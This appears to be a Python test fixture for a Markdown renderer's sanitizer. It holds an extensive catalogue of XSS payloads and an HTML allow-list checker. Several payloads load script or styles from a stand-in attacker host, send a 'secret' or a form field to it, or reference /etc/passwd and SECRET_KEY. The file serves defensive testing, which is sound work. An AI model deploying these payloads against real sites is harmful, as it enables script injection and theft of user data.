"""Hostile Markdown, and what may come out of it: the list other tests share.

`PAYLOADS` are single sources; `offences(html)` tells everything in HTML that is not on the allow-list.
"""

from __future__ import annotations

from html.parser import HTMLParser

_SCRIPTS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\0script:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "%6aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript\\:alert(1)",
    "javascript://https://x%0aalert(1)",
    "javascript://%0aalert(1)//https://",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:x",
    "mocha:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/png;base64,AAAA",
    "data:image/gif;base64,R0lGODlhAQABAAAAACw=",
    "blob:https://x/1",
    "file:///etc/passwd",
    "filesystem:https://x/1",
    "ftp://x/y",
    "view-source:https://x",
    "about:blank",
    "intent://x#Intent;end",
    "ms-word:ofe|u|https://x",
    "tel:123",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/keys/delete",
    "?next=/logout",
    "#id",
    "../up",
    "https:javascript:alert(1)",
    'http://x"onmouseover="alert(1)',
    "https://x/'onclick='alert(1)'",
    "https://x/<script>alert(1)</script>",
    "https://x/</figcaption><script>alert(1)</script>",
    "https://x y/onerror=alert(1)",
    "https://x/`onclick=alert(1)`",
    'mailto:a@b?subject="><script>alert(1)</script>',
    "feed:javascript:alert(1)",
    "jar:https://x!/y",
    "ｊavascript:alert(1)",
    "javascript\u00a0:alert(1)",
    "\u202ejavascript:alert(1)",
]

_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel?secret>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg/onload=alert(1)//",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=key><button>Send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<div id=composer class=modal>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://x' onclick=alert(1)>x</a>",
    '<a href="https://x" target=_top rel=opener>x</a>',
    "<div hx-get=/keys hx-trigger=load>x</div>",
    "<div data-hx-post=/keys/delete data-hx-trigger='every 1s'>x</div>",
    "<p hx-on:click='alert(1)'>x</p>",
    "<p hx-on::load=alert(1)>x</p>",
    "<div hx-vals='js:{a:alert(1)}' hx-get=/>x</div>",
    "<span hx-swap-oob=innerHTML:#thread>x</span>",
    "<stream-view channel=1 after=0></stream-view>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>x",
    "<title><script>alert(1)</script></title>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "</p></div></article><script>alert(1)</script>",
    "</code></pre></figure><script>alert(1)</script>",
    "</figcaption><button onclick=alert(1)>Copy</button>",
    '<button type="button" class="copy" data-copy="code" onclick="alert(1)">Copy</button>',
    "<figure class=code><figcaption>x</figcaption></figure>",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)>x",
    "<\x00script>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "&ltscript&gtalert(1)&lt/script&gt",
    "\\<script>alert(1)\\</script>",
    "<scr\u2028ipt>alert(1)</script>",
    "<b>x</b><i>y</i><u>z</u>",
    "<p",
    "<",
    '<a href="',
    "<img alt='",
]

_FENCES = [
    '```"><script>alert(1)</script>\ncode\n```',
    '```python"onclick="alert(1)\nx\n```',
    "```'onmouseover='alert(1)\nx\n```",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "```html\n<script>alert(1)</script>\n```",
    "```html\n</code></pre></figure><script>alert(1)</script>\n```",
    "```svg\n<svg onload=alert(1)>\n```",
    "```js\n'</script><script>alert(1)'\n```",
    "```css\n*{background:url(javascript:alert(1))}\n```",
    "```diff\n+<img src=x onerror=alert(1)>\n-<b>\n```",
    '```json\n{"<script>": "</code>"}\n```',
    "```{=html}\n<script>alert(1)</script>\n```",
    "```python id=x style=color:red hx-get=/\nx\n```",
    "```../../etc\nx\n```",
    "```" + "a" * 300 + "\nx\n```",
    "```&quot;&gt;&lt;script&gt;\nx\n```",
    "```\0\nx\n```",
    '~~~`"><script>`\n<img src=x onerror=alert(1)>\n~~~',
    "~~~</figcaption><script>\nx\n~~~",
    "```\n</figcaption></code>\n",
    "    <script>alert(1)</script>\n",
    "\t</code></pre><img src=x onerror=alert(1)>\n",
    "`</code><script>alert(1)</script>`",
    '``"><img src=x onerror=alert(1)>``',
]

_LINKS = [
    '[x](https://ok.example "title\\" onclick=alert(1)")',
    "[x](https://ok.example '</figcaption> onmouseover=alert(1) x=')",
    "[x](https://ok.example (<script>alert(1)</script>))",
    "[x](<javascript:alert(1)>)",
    "[x](<https://ok.example onclick=alert(1)>)",
    '[x](<https://ok.example">)',
    "[x](\njavascript:alert(1)\n)",
    "[x]()",
    "[](javascript:alert(1))",
    "[<script>alert(1)</script>](https://ok.example)",
    "[`</a>`](https://ok.example)",
    "[a [b](javascript:alert(1)) c](https://ok.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[![x](https://evil.example/p.png)](https://ok.example)",
    "![](https://evil.example/p.png?secret)",
    '![x](https://evil.example/p.png "t" onerror=alert(1))',
    '!["onerror=alert(1) x="](https://evil.example/p.png)',
    "![<img src=x onerror=alert(1)>](https://evil.example/p.png)",
    "![![x](https://a.example/1)](https://b.example/2)",
    "![[x](javascript:alert(1))](https://b.example/2)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    '<https://ok.example/"onclick=alert(1)>',
    "<https://ok.example/'><script>",
    '<a@b.example"onclick=alert(1)>',
    "<mailto:a@b.example>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: https://ok.example "<script>"\n\n[x] [y][x] ![x]',
    "[x]: <javascript:alert(1)>\n\n[x][]",
    "https://bare.example/<script>alert(1)</script>",
    "javascript:alert(1)",
]

_BLOCKS = [
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |\n",
    "| <img src=x onerror=alert(1)> | b |\n|:--|--:|\n| `</td>` | ![x](https://evil.example/p) |\n",
    "|a|b|\n|-|-|\n|</td></tr></table></div><script>alert(1)</script>|x|\n",
    "# <script>alert(1)</script>\n",
    "<img src=x onerror=alert(1)>\n===\n",
    "> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>\n",
    "- [ ] <input type=checkbox onclick=alert(1)>\n- [x] [y](javascript:alert(1))\n",
    "- [ ](javascript:alert(1))\n- [x](javascript:alert(1))\n",
    '1. ```"><script>\n   <img src=x onerror=alert(1)>\n   ```\n',
    "99999999. x\n",
    "1234567890. x\n",
    "$<script>alert(1)</script>$ and $$<img src=x onerror=alert(1)>$$",
    "\\(<script>alert(1)</script>\\) \\[<svg onload=alert(1)>\\]",
    "$\\href{javascript:alert(1)}{x}$",
    "**<script>**alert(1)**</script>**",
    "*x*{onclick=alert(1)}",
    "# x {#id .class style=color:red}\n",
    "[x](https://ok.example){onclick=alert(1) target=_top}",
    "---\ntitle: <script>alert(1)</script>\n---\n",
    "{% include 'secret' %} {{ settings.SECRET_KEY }} {{ x|safe }}",
    ":::html\n<script>alert(1)</script>\n:::",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    ">" * 60 + " <script>alert(1)</script>",
    "".join("  " * n + "- <img src=x onerror=alert(1)>\n" for n in range(20)),
    "<div>\n\n**x**\n\n<script>\n\nalert(1)\n\n</script>\n",
    "<!--\n\n<script>alert(1)</script>\n\n-->\n",
    "<pre>\n<code>\n\n<script>alert(1)</script>\n",
    "a\u0000b \ud800 \udfff \ufeff \ufffe \u200b \u2028 \u2029 \x85 \x0b \x0c \x1b[31m",
    "\ufeff<script>alert(1)</script>",
    "a\r\n<script>\r\nalert(1)\r</script>\r\n",
]

PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *(f"[x]({url})" for url in _SCRIPTS),
            *(f"![x]({url})" for url in _SCRIPTS[::3]),
            *(f"<{url}>" for url in _SCRIPTS[::4]),
            *_TAGS,
            *_FENCES,
            *_LINKS,
            *_BLOCKS,
        ]
    )
)

# Where a payload may sit; `{}` is the payload's text on one line.
PLACES: list[str] = [
    "before {} after\n",
    "**{}**\n",
    "# {}\n",
    "> {}\n",
    "- {}\n  - {}\n",
    "- [x] {}\n",
    "| {} | b |\n|---|---|\n| {} | {} |\n",
    "[{}](https://ok.example)\n",
    '[x](https://ok.example "{}")\n',
    "![{}](https://ok.example)\n",
    "```{}\n{}\n```\n",
    "`{}`\n",
    "${}$\n",
]

_BARE = "blockquote br em figcaption h3 h4 h5 h6 hr p s strong table tbody thead tr ul"
_CELL = {"class": ("left", "center", "right")}
_ALLOWED: dict[str, dict[str, tuple[str, ...]]] = {
    **{tag: {} for tag in _BARE.split()},
    "a": {"href": (), "rel": ("noopener nofollow ugc",), "target": ("_blank",)},
    "button": {"type": ("button",), "class": ("copy",), "data-copy": ("code",)},
    "code": {"class": ("hl-code",)},
    "div": {"class": ("table-scroll",), "tabindex": ("0",), "role": ("group",), "aria-label": ("Table",)},
    "figure": {"class": ("code",), "data-lang": ()},
    "li": {"class": ("task-item",)},
    "ol": {"start": ()},
    "pre": {"tabindex": ("0",)},
    "span": {"class": (), "role": ("img",), "aria-label": ("To do", "Done")},
    "td": _CELL,
    "th": {**_CELL, "scope": ("col",)},
}
_VOID = {"br", "hr"}


def offences(html: str) -> list[str]:
    """Everything in `html` that may not be there; unbalanced tags too, they could leave their place."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return [*inspector.offences, *(f"<{tag}> is never closed" for tag in inspector.open)]


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.offences: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _VOID:
            self.open.append(tag)
        if tag not in _ALLOWED:
            self.offences.append(f"<{tag}>")
            return
        for name, value in attrs:
            if name not in _ALLOWED[tag] or not _is_allowed(tag, name, value or ""):
                self.offences.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and dict(attrs).get("rel") != "noopener nofollow ugc":
            self.offences.append("a link that tells where it comes from")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.offences.append(f"</{tag}> closes nothing")

    def handle_comment(self, data: str) -> None:
        self.offences.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.offences.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.offences.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.offences.append(f"instruction {data!r}")


def _is_allowed(tag: str, name: str, value: str) -> bool:
    if name == "href":
        return value.lower().startswith(("https://", "http://", "mailto:"))
    if name == "start":
        return value.isdecimal()
    if name == "data-lang":
        return 0 < len(value) <= 30 and all(c.isalnum() or c in "+#._-" for c in value)
    if tag == "span" and name == "class":
        return value in ("task", "math") or (value.startswith("hl-") and value[3:].isalnum())
    return value in _ALLOWED[tag][name]
